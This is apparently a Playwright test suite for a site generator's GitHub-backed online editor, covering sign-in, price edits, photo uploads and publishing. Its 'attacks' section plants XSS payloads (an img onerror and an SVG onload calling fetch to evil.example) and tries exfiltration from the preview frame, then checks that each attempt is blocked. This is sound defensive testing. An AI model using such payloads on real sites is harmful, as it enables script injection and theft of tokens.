import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { FrameLocator, Locator, Page } from "playwright/test";
import sharp from "sharp";
import { getMediaType } from "../../../src/output/media-types.ts";
import { served } from "../../served.mjs";
import { type Facade, openFacade, place } from "../../unit/editor/github/facade.ts";
import { violations } from "../axe.ts";
import { test as base, expect } from "../test.ts";

const project = fileURLToPath(new URL("../../..", import.meta.url));
const api = "https://api.github.com";

// All tests use one build, which takes longer than they do.
base.describe.configure({ mode: "default" });

/** A site with an online editor, built from the newest commit of its repository. */
interface OnlineSite {
	/** The home page, below a path as on GitHub Pages. */
	url: string;
	/** The definition as it was published first. */
	text: string;
	facade: Facade;
	/** Publishes what the repository has. */
	deploy: () => Promise<void>;
	end: () => Promise<void>;
}

/** Tests of the online editor. Each has a repository of its own. */
const test = base.extend<{ site: OnlineSite; sendsHeaders: boolean }>({
	/** Whether the host sends the headers of the site's policy, as GitHub Pages does not. */
	sendsHeaders: [false, { option: true }],
	site: async ({ kept, sendsHeaders }, use) => {
		const built = await kept("built site", buildSite, async (folder) => rmSync(folder, { recursive: true }));
		const site = await openSite(built, sendsHeaders ? startServer : startPagesServer);
		await use(site);
		await site.end();
	},
	baseURL: async ({ site }, use) => use(new URL(site.url).origin),
	// The repository is at another address.
	tolerated: new RegExp(`^request: ${api}/|^console: .* status of 4.*${api}/`),
	page: async ({ page, site }, use) => {
		await page.route(`${api}/**`, async (route) => {
			const request = route.request();
			const answer = await site.facade.load(request.url().replace(api, place.api), {
				method: request.method(),
				headers: await request.allHeaders(),
				body: request.postData(),
			});
			const headers = { ...Object.fromEntries(answer.headers), "access-control-allow-origin": "*" };
			await route.fulfill({ status: answer.status, headers, body: Buffer.from(await answer.arrayBuffer()) });
		});
		await use(page);
	},
});

/** Builds the bakery with an editor. Returns the folder with its files and the output. */
async function buildSite(): Promise<string> {
	const folder = mkdtempSync(join(tmpdir(), "site-online-"));
	cpSync(join(project, "tests/sites/bakery"), join(folder, "source"), { recursive: true });
	const file = join(folder, "source/site.yaml");
	const original = readFileSync(file, "utf8").replace("https://www.ryeandwren.example", "https://ann.example/bakery");
	writeFileSync(file, `${original}\nediting: { host: github, repository: ${place.repository} }\n`);
	await build(folder);
	return folder;
}

async function build(folder: string): Promise<void> {
	const options = ["--site", join(folder, "source/site.yaml"), "--out", join(folder, "out"), "--no-compress"];
	const program = spawn(process.execPath, ["src/cli/site.mjs", "build", ...options], { cwd: project, stdio: "ignore" });
	const [code] = await once(program, "exit");
	expect(code).toBe(0);
}

async function openSite(built: string, start: typeof startServer): Promise<OnlineSite> {
	const folder = mkdtempSync(join(tmpdir(), "site-online-"));
	cpSync(built, folder, { recursive: true });
	const source = join(folder, "source");
	const facade = openFacade(readAll(source));
	const deploy = async () => {
		for (const [path, text] of Object.entries(facade.readFiles(facade.getHead())))
			if (path === "site.yaml") writeFileSync(join(source, path), text);
		await build(folder);
	};
	const server = await start(folder);
	return {
		...{ facade, deploy, text: readFileSync(join(source, "site.yaml"), "utf8") },
		url: `${server.url}/bakery/`,
		end: async () => {
			await server.stop();
			facade.close();
			rmSync(folder, { recursive: true, force: true });
		},
	};
}

function readAll(folder: string, path = ""): Record<string, Buffer> {
	const entries = readdirSync(join(folder, path), { withFileTypes: true }).map((entry) => {
		const name = path === "" ? entry.name : `${path}/${entry.name}`;
		return entry.isDirectory() ? readAll(folder, name) : { [name]: readFileSync(join(folder, name)) };
	});
	return Object.assign({}, ...entries);
}

/** Serves the site below a path, with its headers. */
function startServer(folder: string): Promise<{ url: string; stop: () => Promise<void> }> {
	const options = ["--site", join(folder, "source/site.yaml"), "--out", join(folder, "out"), "--no-compress"];
	return served(project, ["start", ...options]);
}

/** Serves the site as GitHub Pages does: below a path, without its headers. */
async function startPagesServer(folder: string): Promise<{ url: string; stop: () => Promise<void> }> {
	const server = createPagesServer(join(folder, "out"), "/bakery");
	await once(server.listen(0, "127.0.0.1"), "listening");
	const { port } = server.address() as AddressInfo;
	return { url: `http://127.0.0.1:${port}`, stop: async () => void server.close() };
}

function createPagesServer(folder: string, path: string) {
	return createServer(({ url = "" }, response) => {
		const { pathname } = new URL(url, "http://localhost");
		const file = join(folder, decodeURIComponent(pathname.slice(path.length)));
		response.setHeader("access-control-allow-origin", "*");
		if (!pathname.startsWith(`${path}/`) || !existsSync(file)) return response.writeHead(404).end();
		const isFolder = statSync(file).isDirectory();
		if (isFolder && !pathname.endsWith("/")) return response.writeHead(301, { location: `${pathname}/` }).end();
		const document = isFolder ? join(file, "index.html") : file;
		response.setHeader("content-type", getMediaType(document));
		response.end(readFileSync(document));
	});
}

/** Opens the editor at its address, and signs in. */
async function signIn(page: Page, site: OnlineSite): Promise<void> {
	await page.goto(`${site.url}edit`);
	await page.getByLabel("Access token").fill("secret");
	await page.getByRole("button", { name: "Sign in" }).click();
	await isOpen(page);
}

async function isOpen(page: Page): Promise<void> {
	await expect(previewOf(page).locator("main, .bare").first()).toBeVisible();
}

function previewOf(page: Page): FrameLocator {
	return page.getByRole("region", { name: "Page" }).locator("iframe").contentFrame();
}

/** Opens the form of a text on a page. */
async function openForm(page: Page, pageName: string, text: string): Promise<Locator> {
	const list = page.getByRole("combobox", { name: "Current page" });
	await list.click();
	await list.fill(pageName);
	await page.getByRole("option", { name: pageName }).first().click();
	await previewOf(page).getByText(text, { exact: true }).first().click();
	return page.getByRole("region", { name: "Panel" });
}

/** The lines of the newest commit, beside those of the text that the editor was opened with. */
function listChangedLines({ facade, text }: OnlineSite): string[][] {
	const [old, fresh] = [text, facade.readFiles(facade.getHead())["site.yaml"]!].map((one) => one.split("\n"));
	return [old!.filter((line) => !fresh!.includes(line)), fresh!.filter((line) => !old!.includes(line))];
}

test.describe("on a host that sends the headers of the site", () => {
	test.use({ sendsHeaders: true });

	test("a price, from the sign-in to what visitors see", async ({ page, site }) => {
		test.slow();
		const sent: string[] = [];
		page.on("request", (request) => {
			if (request.url().startsWith(api)) sent.push(request.url());
			else sent.push(request.url(), JSON.stringify(request.headers()), request.postData() ?? "");
		});
		await page.goto(`${site.url}edit`);
		expect(await violations(page, ["light", "dark"])).toEqual([]);
		await page.getByLabel("Access token").fill("expired");
		await page.getByRole("button", { name: "Sign in" }).click();
		await expect(page.getByRole("alert")).toContainText("GitHub doesn’t accept your access token.");
		site.facade.requests.length = 0;
		await page.getByLabel("Access token").fill("secret");
		await page.getByRole("button", { name: "Sign in" }).click();
		await isOpen(page);
		expect(site.facade.requests.length).toBeLessThanOrEqual(10);

		const panel = await openForm(page, "Baskets", "Dark rye, whole");
		await panel.getByRole("textbox", { name: /^Price/ }).fill("5.65");
		await expect(previewOf(page).getByText("£5.65")).toBeVisible();
		await expect(page.getByText("1 change to publish", { exact: true })).toBeVisible();
		await page.getByRole("button", { name: "Publish" }).click();
		const dialog = page.getByRole("dialog", { name: "Publish" });
		await dialog.getByRole("button", { name: "Publish now" }).click();
		await expect(dialog.locator("[data-severity=done]")).toContainText("Published to ann/bakery, in main.");
		await expect(dialog.getByText("Visitors don’t see your changes yet.")).toBeVisible();
		expect(site.facade.countCommits()).toBe(2);
		expect(listChangedLines(site)).toEqual([["                price: 5.20"], ["                price: 5.65"]]);

		await site.deploy();
		await page.evaluate(() => dispatchEvent(new Event("focus")));
		await expect(dialog.getByText(/^Live since \d\d:\d\d: visitors see your changes\.$/)).toBeVisible();

		// The token was only in the memory of this tab, and in requests to GitHub.
		expect(sent.filter((text) => text.includes("secret"))).toEqual([]);
		expect(
			await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])),
		).toBe('[{},{},""]');
		await page.reload();
		await expect(page.getByLabel("Access token")).toHaveValue("");
	});
});

test.describe("on a phone", () => {
	test.use({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });

	test("a photograph survives the tab, and is proposed where the branch is protected", async ({ page, site }) => {
		test.slow();
		site.facade.protect();
		await page.goto(`${site.url}edit`);
		await page.getByLabel("Stay signed in until I close this tab").check();
		await page.getByLabel("Access token").fill("secret");
		await page.getByRole("button", { name: "Sign in" }).click();
		await isOpen(page);
		await previewOf(page).locator("main img").first().tap();
		const panel = page.getByRole("region", { name: "Panel" });
		const file = panel.locator("input[type=file]").first();
		const heic = Buffer.from("\0\0\0\x18ftypheic\0\0\0\0");
		await file.setInputFiles({ name: "mill.heic", mimeType: "image/heic", buffer: heic });
		await expect(panel.getByText("‘mill.heic’ is a HEIC photo")).toBeVisible();
		await file.setInputFiles({ name: "Old Mill.JPG", mimeType: "image/jpeg", buffer: await takePhotograph() });
		await expect(panel.getByLabel("What it shows").first()).toBeFocused();
		await page.keyboard.type("A mill beside a river.");
		const picture = previewOf(page).getByAltText("A mill beside a river.").first();
		await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalHeight)).toBe(2560);

		await page.reload();
		const draft = page.getByRole("dialog", { name: "You have unpublished changes" });
		await draft.getByRole("button", { name: "Restore my changes" }).click();
		await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalHeight)).toBe(2560);
		await page.getByRole("button", { name: "Publish" }).click();
		const dialog = page.getByRole("dialog", { name: "Publish" });
		await dialog.getByRole("button", { name: "Publish now" }).click();
		await expect(dialog.getByText("is protected: others must agree first.")).toBeVisible();
		await dialog.getByRole("button", { name: "Propose the changes" }).click();
		await expect(dialog.getByRole("link", { name: "View the proposal" })).toBeVisible();
		expect(site.facade.countCommits()).toBe(1);
		const [proposal] = site.facade.pulls;
		const bytes = execFileSync("git", ["-C", site.facade.repository, "show", `${proposal!.head}:images/old-mill.jpg`], {
			maxBuffer: 1 << 24,
		});
		const { width, height, exif } = await sharp(bytes).metadata();
		expect({ width, height, exif }).toEqual({ width: 1920, height: 2560, exif: undefined });
		expect(bytes.length).toBeLessThanOrEqual(1_000_000);
	});
});

/** Makes a large photograph of a camera that was held upright, with the place where it was taken. */
function takePhotograph(): Promise<Buffer> {
	const noise = { type: "gaussian", mean: 128, sigma: 60 } as const;
	return sharp({ create: { width: 64, height: 48, channels: 3, background: "#888", noise } })
		.resize(3200, 2400)
		.withExif({ IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1" } })
		.withMetadata({ orientation: 6 })
		.jpeg({ quality: 100 })
		.toBuffer();
}

test.describe("attacks", () => {
	test.use({ tolerated: /./ });

	test("code in the page under edit can reach neither the token nor any host", async ({ page, site }) => {
		const asked: string[] = [];
		// Only what the policy allows comes here.
		await page.route("https://evil.example/**", (route) => {
			asked.push(route.request().url());
			return route.fulfill({ body: "" });
		});
		const markup = `<img src="https://evil.example/?text" onerror="fetch('https://evil.example/?code')">`;
		const text = site.text.replace(
			"heading: Warm bread with your name on it",
			`heading: '${markup.replaceAll("'", "''")}'`,
		);
		const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('https://evil.example/?svg')"><image href="https://evil.example/?image"/></svg>`;
		site.facade.commitOutside({ "site.yaml": text, "images/loaf.svg": drawing });
		await signIn(page, site);
		await expect(previewOf(page).getByText("?text")).toBeVisible();
		site.facade.requests.length = 0;
		const frame = page.frames().find((one) => one.url().includes("/edit/frame"))!;
		const reached = await frame.evaluate(async (editor) => {
			const attempts: Record<string, () => unknown> = {
				origin: () => self.origin,
				storage: () => sessionStorage.length,
				parent: () => parent.document.title,
				settings: () => (parent as Window & { token?: string }).token,
				database: () =>
					new Promise((resolve, reject) => {
						const opening = indexedDB.open("site-editor");
						opening.onsuccess = () => resolve("opened");
						opening.onerror = () => reject(new Error());
					}),
				fetch: () => fetch("https://evil.example/?fetch"),
				own: () => fetch(editor).then((response) => response.text()),
				github: () => fetch("https://api.github.com/user"),
				picture: () =>
					new Promise((resolve, reject) => {
						const image = new Image();
						image.onload = resolve;
						image.onerror = () => reject(new Error());
						image.src = "https://evil.example/?picture";
					}),
				script: () =>
					new Promise((resolve, reject) => {
						const script = document.createElement("script");
						script.onload = resolve;
						script.onerror = () => reject(new Error());
						script.src = "https://evil.example/?script";
						document.body.append(script);
					}),
				popup: () => {
					if (!open("https://evil.example/?popup")) throw new Error();
				},
				top: () => {
					top!.location.href = "https://evil.example/?top";
				},
			};
			const done: string[] = [];
			for (const [name, attempt] of Object.entries(attempts)) {
				try {
					done.push(`${name}: ${await attempt()}`);
				} catch {
					// As it should be.
				}
			}
			return done;
		}, `${site.url}edit/`);
		expect(reached).toEqual(["origin: null"]);
		// Even from another page, the frame would get what is edited.
		await frame.evaluate(() => {
			location.href = "https://evil.example/?frame";
		});
		await expect.poll(() => page.frames().map((one) => one.url())).toContain("chrome-error://chromewebdata/");
		expect([...asked, ...site.facade.requests]).toEqual([]);
		expect(page.url()).toBe(`${site.url}edit/`);
	});

	test("another website that shows the editor in a frame gets no sign-in", async ({ page, site }) => {
		await page.setContent(`<iframe src="${site.url}edit/" title="Editor"></iframe>`);
		const editor = page.frameLocator("iframe");
		await expect(editor.getByText("Open the editor in a tab of its own.")).toBeVisible();
		await expect(editor.getByLabel("Access token")).toHaveCount(0);
	});
});
